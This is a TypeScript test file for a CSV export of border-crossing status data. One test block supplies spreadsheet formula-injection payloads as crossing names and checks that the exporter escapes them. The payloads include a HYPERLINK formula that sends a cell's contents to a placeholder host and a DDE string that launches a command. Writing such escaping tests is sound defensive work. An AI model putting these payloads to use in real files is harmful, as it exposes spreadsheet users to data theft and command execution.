import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { crossingsCsv } from '../../src/api/csv.ts';
import { apiFiles, type CrossingsView } from '../../src/views/data/api-files.ts';
import { contextOn } from '../text/plan-on.ts';
import { apiOn, fileAt } from './api-on.ts';

type Row = Record<string, string>;
const rowsOf = (text: string): Row[] => parse(text, { columns: true });

function viewOn(day: string): CrossingsView {
  const file = apiFiles([contextOn(day)]).find((one) => one.print === 'csv');
  if (file?.print !== 'csv') throw new Error('There is no table.');
  return file.view;
}

test('the table has a row for each crossing and passport, with both dates', () => {
  const rows = rowsOf(fileAt(apiOn('2026-02-07'), 'crossings.csv'));
  expect(rows).toHaveLength(52);
  const row = rows.find(
    (one) => one['crossing'] === 'gurbulak-bazargan' && one['passport'] === 'US',
  );
  expect(row).toMatchObject({
    name: 'Gürbulak / Bazargan',
    status: 'open',
    as_of: '2026-02-05',
    do_not_rely_after: '2026-02-08',
    issuers: 'us',
    made_on: '2026-02-07',
  });
});

test('lines end with CRLF, as RFC 4180 asks', () => {
  const text = fileAt(apiOn('2026-02-07'), 'crossings.csv');
  expect(text.endsWith('\r\n')).toBe(true);
  expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
});

describe('names that were made to do harm', () => {
  const view = viewOn('2026-02-07');
  const [crossing] = view.data;
  if (!crossing) throw new Error('There is no crossing.');
  const named = (name: string) =>
    rowsOf(crossingsCsv({ ...view, data: [{ ...crossing, name }] }))[0]?.['name'];

  test.each([
    ['=HYPERLINK("http://a.example/?"&A1,"open")', 'a formula'],
    ["+1+cmd|' /C calc'!A0", 'a command'],
    ['-2+3', 'a subtraction'],
    ['@SUM(A1:A9)', 'a function'],
    ['\t=1+1', 'a formula after a tab'],
    ['\r=1+1', 'a formula after a line end'],
    ['＝1+1', 'a full-width sign'],
  ])('%j, %s, is text in a spreadsheet', (name) => {
    expect(named(name)).toBe(`'${name}`);
  });

  test.each([
    ['Gürbulak, "the gate"', 'commas and quotation marks'],
    ['two\nlines\r\nthree', 'line ends'],
    ['نوردوز', 'Persian'],
    ['', 'nothing'],
  ])('%j (%s) comes back as it was', (name) => {
    expect(named(name)).toBe(name);
  });
});
